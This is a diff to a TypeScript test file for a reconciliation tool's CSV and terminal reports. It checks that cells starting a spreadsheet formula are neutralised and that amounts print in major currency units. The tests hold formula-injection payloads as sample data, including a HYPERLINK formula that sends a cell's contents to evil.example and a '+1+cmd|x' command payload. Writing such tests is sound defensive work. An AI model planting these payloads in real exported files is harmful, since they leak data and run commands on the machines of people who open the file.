@@ -1,7 +1,8 @@
 import { Writable } from 'node:stream';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { BREAK_CSV_COLUMNS } from '../../src/reconcile/format/csvReport.js';
+import { BREAK_CSV_COLUMNS, csvCell } from '../../src/reconcile/format/csvReport.js';
+import { breakLine } from '../../src/reconcile/format/terminalReport.js';
 import { reportWriter, type ReportFormat, type ReportOptions } from '../../src/reconcile/index.js';
 import { JournalLineError } from '../../src/reconcile/errors.js';
 import type { LedgerRecord, ReconcileWindow } from '../../src/reconcile/types.js';
@@ -125,20 +126,64 @@ describe('--csv: one row per break', () => {
   });
 });
 
+describe('--csv: no cell a spreadsheet would run as a formula (CWE-1236)', () => {
+  it.each([
+    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
+    ['+1+cmd|x', `"'+1+cmd|x"`],
+    ['-A1', `"'-A1"`],
+    ['@SUM(A1)', `"'@SUM(A1)"`],
+    ['\t=1', `"'\t=1"`],
+    ['\r=1', `"'\r=1"`],
+    ['-500', '-500'],
+    ['-5;-3', `"'-5;-3"`],
+    ['a=b', 'a=b'],
+    ['tx,a', '"tx,a"'],
+    ['', ''],
+    [null, ''],
+  ] as const)('%j → %s', (cell, written) => {
+    expect(csvCell(cell)).toBe(written);
+  });
+  it('a negative amount stays a number', () => expect(csvCell(-500n)).toBe('-500'));
+
+  it("a journal's ref, GUID and accounts that start a formula reach the spreadsheet as text, the same text after its quote", async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    const s = sink();
+    const writer = reportWriter('csv', s.out);
+    const { breaks } = await reconcileText(tempDir(), 'j.ndjson', ndjsonText([{ guid: '@evil', ref: evil, from: '+1+1', to: '-A1', appliedAt: at(5) }]), [], W);
+    await writer.start({ window: W, source: 'j.ndjson' });
+    for (const b of breaks) await writer.write(b);
+    await writer.end(undefined as never);
+    const [row] = parse(s.text(), { columns: true }) as Array<Record<string, string>>;
+    expect(row).toMatchObject({ guid: "'@evil", journal_refs: `'${evil}`, journal_from: "'+1+1", journal_to: "'-A1" });
+    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
 describe('terminal: one line per break, then the summary', () => {
   it('prints each break on its own line and counts and money per category and per side', async () => {
     const lines = (await render('terminal')).trimEnd().split('\n');
-    expect(lines[0]).toMatch(/^P1 duplicate_in_journal G-dup {2}ledger: DONE 0000, \*+0001 → \*+0002 100 CNY, first sent 2024-04-30T17:00:00.000Z {2}journal: 2 postings: tx,a .* \(line 1\); tx-b .* \(line 2\)$/);
-    expect(lines[1]).toMatch(/^P1 amount_mismatch G-mismatch {2}differs: to, amount {2}ledger: .* 100 CNY.*journal: .* 1152921504606846977 CNY/);
-    expect(lines[2]).toMatch(/^P2 missing_in_ledger G-stranger {2}ledger: no row {2}journal: .* 100 \(no currency\)/);
+    expect(lines[0]).toMatch(/^P1 duplicate_in_journal G-dup {2}ledger: DONE 0000, \*+0001 → \*+0002 1\.00 CNY, first sent 2024-04-30T17:00:00.000Z {2}journal: 2 postings: tx,a .* \(line 1\); tx-b .* \(line 2\)$/);
+    expect(lines[1]).toMatch(/^P1 amount_mismatch G-mismatch {2}differs: to, amount {2}ledger: .* 1\.00 CNY.*journal: .* 11529215046068469\.77 CNY/);
+    expect(lines[2]).toMatch(/^P2 missing_in_ledger G-stranger {2}ledger: no row {2}journal: .* 1\.00 \(no currency\)/);
     expect(lines[3]).toBe('');
     const summary = lines.slice(4).join('\n');
     expect(summary).toMatch(/window {3}\[2024-04-30T16:00:00.000Z, 2024-05-01T16:00:00.000Z\), pending 1h/);
-    expect(summary).toMatch(/duplicate_in_journal +P1 +1 +100 CNY +200 CNY/);
-    expect(summary).toMatch(/amount_mismatch +P1 +1 +100 CNY +1152921504606846977 CNY/);
-    expect(summary).toMatch(/missing_in_ledger +P2 +1 +0 +100 \(no currency\)/);
-    expect(summary).toMatch(/matched +- +2 +100 CNY +200 CNY/);
+    expect(summary).toMatch(/duplicate_in_journal +P1 +1 +1\.00 CNY +2\.00 CNY/);
+    expect(summary).toMatch(/amount_mismatch +P1 +1 +1\.00 CNY +11529215046068469\.77 CNY/);
+    expect(summary).toMatch(/missing_in_ledger +P2 +1 +0 +1\.00 \(no currency\)/);
+    expect(summary).toMatch(/matched +- +2 +1\.00 CNY +2\.00 CNY/);
     expect(summary).toMatch(/1 matched on a tombstone's code alone/);
     expect(lines.at(-1)).toBe('breaks: 3 (P1 2, P2 1)');
+  });
+
+  it('shows amounts in major units by the currency (CONTRACT.md §5): JPY without decimals, KWD with three', () => {
+    const entry = (amount: bigint, currency: string | null) => ({ ref: 'r', from: '***1', to: '***2', amount, currency, appliedAt: 0, line: 1 });
+    const line = breakLine({
+      guid: 'G', category: 'duplicate_in_journal', severity: 'P1', differs: [], firstSeen: null,
+      ledger: { status: 'DONE', code: '0000', firstSentAt: 0, from: '***1', to: '***2', amount: 7199n, currency: 'CNY' },
+      journal: [entry(1500n, 'JPY'), entry(1500n, 'KWD'), entry(5n, null)],
+    });
+    expect(line).toContain('***1 → ***2 71.99 CNY, first sent');
+    expect(line).toMatch(/r \*\*\*1 → \*\*\*2 1500 JPY at .*r \*\*\*1 → \*\*\*2 1\.500 KWD at .*r \*\*\*1 → \*\*\*2 0\.05 \(no currency\) at /);
   });
 });
